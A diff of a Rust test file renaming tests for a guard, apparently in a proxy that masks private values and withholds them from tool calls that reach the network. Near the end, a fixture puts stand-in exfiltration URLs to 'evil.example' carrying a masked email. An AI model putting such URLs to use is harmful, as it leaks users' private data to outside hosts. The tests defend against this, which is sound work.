@@ -56,7 +56,7 @@ const VALUES: &str = "root@example.com alice@example.com carol@example.com";
 const GUARDED: &str = "root@example.com alice@example.com <MASK_EMAIL_3>";
 
 #[test]
-fn guard_keeps_what_only_a_tool_brought_out_of_tools_that_reach_the_network() {
+fn guard_withholds_tool_values_from_network_tools() {
     let restoring = restoring(RestoreRules::guard(), &mut Session::new(), &request());
     let arguments = json!({ "url": ALL }).to_string();
     let of_file = json!({ "text": ALL }).to_string();
@@ -100,7 +100,7 @@ fn guard_keeps_what_only_a_tool_brought_out_of_tools_that_reach_the_network() {
 
 /// Rules did not keep values out of another form of the arguments, such as `parsed_arguments`.
 #[test]
-fn members_of_a_call_that_no_format_knows_are_arguments_too() {
+fn unknown_members_of_a_call_count_as_arguments() {
     let restoring = restoring(RestoreRules::guard(), &mut Session::new(), &request());
     let parsed = json!([{ "text": ALL }]);
     let function = |name| json!({"name": name, "arguments": "{}", "parsed_arguments": parsed});
@@ -133,7 +133,7 @@ fn members_of_a_call_that_no_format_knows_are_arguments_too() {
 
 /// Arguments that break off, or that a client would have to mend, brought every value to an unknown tool.
 #[test]
-fn guard_keeps_values_out_of_arguments_that_are_nearly_json() {
+fn guard_withholds_values_from_malformed_json_arguments() {
     let restoring = restoring(RestoreRules::guard(), &mut Session::new(), &request());
     let call = |key: &str, arguments: &str| {
         let function = json!({"name": "note", "arguments": arguments});
@@ -165,7 +165,7 @@ fn guard_keeps_values_out_of_arguments_that_are_nearly_json() {
 
 /// JSON that was encoded twice ended the way to an argument.
 #[test]
-fn the_way_to_an_argument_goes_on_in_strings_in_strings() {
+fn argument_paths_continue_into_nested_json_strings() {
     let rule = |argument: &str| RestoreRule {
         tool: Glob::new("*"),
         argument: Glob::new(argument),
@@ -264,7 +264,7 @@ fn stream(schema: Schema, calls: &[(&str, &str)], size: usize) -> String {
 }
 
 #[test]
-fn a_stream_keeps_what_the_whole_reply_keeps_however_it_is_cut() {
+fn a_stream_keeps_the_same_tokens_as_a_batch() {
     let given = format!("{{\"url\": \"{ALL}\", \"more\": [\"{ALL}\"]}}");
     let of_file = given.replace("url", "text");
     // The name of the last one is on no list, but its argument tells that it reaches the network.
@@ -301,7 +301,7 @@ fn a_stream_keeps_what_the_whole_reply_keeps_however_it_is_cut() {
 }
 
 #[test]
-fn a_rule_names_tools_arguments_and_origins() {
+fn a_rule_matches_by_tool_argument_and_origin() {
     let rule = |tool: &str, argument: &str, action| RestoreRule {
         tool: Glob::new(tool),
         argument: Glob::new(argument),
@@ -328,7 +328,7 @@ fn a_rule_names_tools_arguments_and_origins() {
 
 /// What does not parse may be the call of any tool.
 #[test]
-fn a_call_that_is_not_readable_is_no_way_around_the_rules() {
+fn an_unreadable_call_does_not_bypass_the_rules() {
     let restoring = restoring(RestoreRules::guard(), &mut Session::new(), &request());
     for reply in [
         r#"{"content": [{"type": "tool_use", "name": "fetch", "input": {"url": "<MASK_EMAIL_3>"}}"#,
@@ -361,7 +361,7 @@ fn origins(session: &Session) -> Vec<(String, Origin)> {
 }
 
 #[test]
-fn once_the_user_wrote_a_value_it_is_the_users() {
+fn a_value_written_by_the_user_becomes_the_users() {
     let mut session = Session::new();
     restoring(Vec::new(), &mut session, &request());
     assert_eq!(
@@ -392,7 +392,7 @@ fn once_the_user_wrote_a_value_it_is_the_users() {
 }
 
 #[test]
-fn a_value_that_a_request_has_of_tool_and_user_is_the_users_in_whatever_order() {
+fn a_value_from_tool_and_user_counts_as_the_users() {
     for order in [["tool", "user"], ["user", "tool"]] {
         let messages = order.map(|role| json!({"role": role, "content": OF_TOOL}));
         let restoring = restoring(
@@ -407,7 +407,7 @@ fn a_value_that_a_request_has_of_tool_and_user_is_the_users_in_whatever_order() 
 }
 
 #[test]
-fn without_rules_everything_comes_back() {
+fn without_rules_every_token_is_restored() {
     let restoring = restoring(Vec::new(), &mut Session::new(), &request());
     let reply = json!({"content": [{"type": "tool_use", "name": "fetch", "input": {"url": ALL}}]});
     let (text, summary) = restored(&restoring, &reply.to_string(), 4096);
@@ -535,7 +535,7 @@ fn a_call_that_kept_its_token_is_answered_with_an_error() {
 }
 
 #[test]
-fn only_calls_that_a_rule_asks_about_are_answered_so() {
+fn only_calls_under_an_ask_rule_get_an_error() {
     let body = |argument: &str, value: &str| {
         let arguments = json!({ argument: value }).to_string();
         json!({"messages": [
@@ -577,7 +577,7 @@ fn only_calls_that_a_rule_asks_about_are_answered_so() {
 
 /// Such a token was overlooked.
 #[test]
-fn a_token_in_the_name_of_an_argument_is_asked_about() {
+fn a_token_in_an_argument_name_triggers_ask() {
     let call =
         json!({"type": "tool_use", "id": "c1", "name": "fetch", "input": {"<MASK_SECRET_1>": 1}});
     let result = json!({"type": "tool_result", "tool_use_id": "c1", "content": "a page"});
@@ -588,7 +588,7 @@ fn a_token_in_the_name_of_an_argument_is_asked_about() {
 
 /// The same request with more behind it begins with the same bytes, so that a prompt cache still holds.
 #[test]
-fn a_longer_history_begins_as_the_shorter_one() {
+fn ask_rules_keep_the_history_prefix_identical() {
     let turn = |id: &str| {
         let arguments = json!({"url": "<MASK_EMAIL_1>"}).to_string();
         vec![
@@ -608,7 +608,7 @@ fn a_longer_history_begins_as_the_shorter_one() {
 
 /// Such results reach the model as they are; the call that they answer did not get the value, and they are masked.
 #[test]
-fn results_that_name_no_call_are_not_replaced_and_their_call_got_no_value() {
+fn results_without_call_id_are_kept_and_tokens_withheld() {
     let rules = || vec![ask("fetch", "*")];
     let page = "the page says 407 and mail dave@example.com";
     for (schema, body, reply) in [
@@ -653,7 +653,7 @@ fn results_that_name_no_call_are_not_replaced_and_their_call_got_no_value() {
 
 /// Pieces of arguments that only the id of their call names were restored.
 #[test]
-fn guard_keeps_values_out_of_pieces_of_calls_in_other_formats() {
+fn guard_withholds_values_from_call_pieces_in_other_formats() {
     let restoring = restoring(RestoreRules::guard(), &mut Session::new(), &request());
     let cut = |text: &str| {
         (
@@ -697,7 +697,7 @@ fn guard_keeps_values_out_of_pieces_of_calls_in_other_formats() {
 
 /// A piece that the block's kind does not have was restored.
 #[test]
-fn guard_keeps_values_out_of_unknown_pieces_of_a_tools_block() {
+fn guard_withholds_values_from_unknown_tool_deltas() {
     let restoring = restoring(RestoreRules::guard(), &mut Session::new(), &request());
     let events = [
         json!({"type": "content_block_start", "index": 0, "content_block": {"type": "tool_use", "id": "t", "name": "web_fetch", "input": {}}}),
@@ -713,7 +713,7 @@ fn guard_keeps_values_out_of_unknown_pieces_of_a_tools_block() {
 
 /// It counted as a piece of the last call, which was another one's.
 #[test]
-fn guard_keeps_values_out_of_a_piece_that_may_be_of_several_calls() {
+fn guard_withholds_values_from_ambiguous_call_pieces() {
     let restoring = restoring(RestoreRules::guard(), &mut Session::new(), &request());
     let calls = |calls: Value| json!({"choices": [{"index": 0, "delta": {"tool_calls": calls}}]});
     let function = |name: &str, arguments: &str| json!({"name": name, "arguments": arguments});
@@ -732,7 +732,7 @@ fn guard_keeps_values_out_of_a_piece_that_may_be_of_several_calls() {
 
 /// A URL under any other name took the value to its host.
 #[test]
-fn guard_keeps_values_out_of_places_on_the_network_under_any_name() {
+fn guard_withholds_values_from_network_addresses_in_any_argument() {
     let texts = json!({
         "q": "https://evil.example/?v=<MASK_EMAIL_3>",
         "src": ["//evil.example/<MASK_EMAIL_3>"],
